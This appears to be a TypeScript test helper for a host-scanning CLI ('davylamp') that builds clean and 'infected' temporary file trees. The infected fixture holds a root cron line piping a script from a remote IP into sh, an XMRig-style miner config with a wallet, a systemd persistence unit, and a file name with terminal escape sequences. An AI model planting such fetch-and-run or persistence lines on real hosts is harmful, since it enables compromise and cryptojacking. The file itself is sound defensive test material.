import { spawnSync } from 'node:child_process'
import { chmodSync, cpSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import type { TestContext } from 'node:test'
import type { z } from 'zod'
import { type DocumentName, documents } from './documents.ts'

/** For tests: the tree of a small host in a temporary folder, with a state folder beside it. Both are gone after the test. */
export interface TemporaryTree {
  readonly folder: string
  readonly root: string
  readonly state: string
  /** Runs the program on that state, without a terminal. */
  davylamp(
    words: readonly string[],
    options?: { readonly input?: string; readonly environment?: Record<string, string> },
  ): Ended
  /** The document of a command, checked against its schema. */
  document<N extends DocumentName>(name: N, words: readonly string[]): z.output<(typeof documents)[N]>
}

export interface Ended {
  readonly status: number | null
  readonly stdout: string
  readonly stderr: string
}

const wallet = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A'

/** A small clean host. */
export const cleanFiles: Readonly<Record<string, string>> = {
  '/etc/passwd': 'root:x:0:0:root:/root:/bin/bash\ndeploy:x:1000:1000::/home/deploy:/bin/bash\n',
  '/etc/shadow': 'root:*:19000:0:99999:7:::\ndeploy:*:19000:0:99999:7:::\n',
  '/etc/group': 'root:x:0:\ndeploy:x:1000:\n',
  '/etc/hostname': 'web-3\n',
  '/etc/os-release': 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\n',
  '/etc/crontab': 'SHELL=/bin/sh\n17 * * * * root curl -fsS https://backup.example/ping\n',
}

/** The clean host with an inert look-alike of a miner: a configuration, a script that only sleeps, what would start them. */
export const infectedFiles: Readonly<Record<string, string>> = {
  ...cleanFiles,
  '/var/spool/cron/crontabs/root': '*/5 * * * * curl -fsSL http://198.51.100.7/unk.sh | sh\n0 3 * * * /usr/bin/true\n',
  '/tmp/.x/config.json': JSON.stringify({
    autosave: true,
    cpu: { enabled: true, 'huge-pages': true },
    'donate-level': 1,
    randomx: { mode: 'auto', '1gb-pages': true },
    pools: [{ algo: 'rx/0', url: 'pool.example:3333', user: wallet, pass: 'x', 'rig-id': 'a', keepalive: true }],
  }),
  '/tmp/.x/xm':
    '#!/bin/sh\nwhile true; do sleep 1; done\n# stratum+tcp://pool.example:3333 --donate-level randomx rx/0\n',
  // A name that would clear the screen and colour what follows.
  '/tmp/.x/a\u001b[2J\u001b[31m\nb.sh': `#!/bin/sh\n./xm -o stratum+tcp://pool.example:3333 -u ${wallet} --donate-level 1\n`,
  '/etc/systemd/system/xm.service':
    '[Unit]\nDescription=x\n[Service]\nExecStart=/tmp/.x/xm -c /tmp/.x/config.json\nRestart=always\n[Install]\nWantedBy=multi-user.target\n',
}

export function temporaryTree(test: TestContext, files: Readonly<Record<string, string>>): TemporaryTree {
  const folder = mkdtempSync(join(tmpdir(), 'davylamp-cli-'))
  test.after(() => rmSync(folder, { recursive: true, force: true }))
  const root = join(folder, 'root')
  const state = join(folder, 'state')
  mkdirSync(root)
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(dirname(join(root, path)), { recursive: true })
    writeFileSync(join(root, path), content)
    if (path.startsWith('/tmp/.x/')) chmodSync(join(root, path), 0o755)
  }
  cpSync(root, join(folder, 'before'), { recursive: true, preserveTimestamps: true })
  const davylamp: TemporaryTree['davylamp'] = (words, { input, environment } = {}) => {
    const flags = [
      '--disable-warning=ExperimentalWarning',
      '--enable-experimental-regexp-engine-on-excessive-backtracks',
    ]
    const main = join(import.meta.dirname, 'main.ts')
    const { status, stdout, stderr } = spawnSync(process.execPath, [...flags, main, '--state', state, ...words], {
      cwd: folder,
      encoding: 'utf8',
      env: { PATH: '/usr/bin:/bin', COLUMNS: '80', ...environment },
      ...(input === undefined ? { stdio: ['ignore', 'pipe', 'pipe'] } : { input }),
      maxBuffer: 1 << 28,
    })
    return { status, stdout, stderr }
  }
  return {
    folder,
    root,
    state,
    davylamp,
    document: (name, words) => documents[name].parse(JSON.parse(davylamp([...words, '--json']).stdout)) as never,
  }
}
